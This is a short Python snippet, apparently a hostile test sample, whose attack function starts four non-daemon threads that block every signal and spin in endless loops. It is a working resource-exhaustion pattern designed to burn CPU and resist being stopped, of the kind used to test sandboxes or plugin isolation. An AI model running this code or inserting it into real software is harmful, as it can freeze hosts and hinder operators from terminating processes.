import signal
import threading


def attack(facts):
    """Threads that are no daemons, busy, with every signal blocked."""

    def burn():
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            pass

    for _ in range(4):
        threading.Thread(target=burn, daemon=False).start()
    return {}
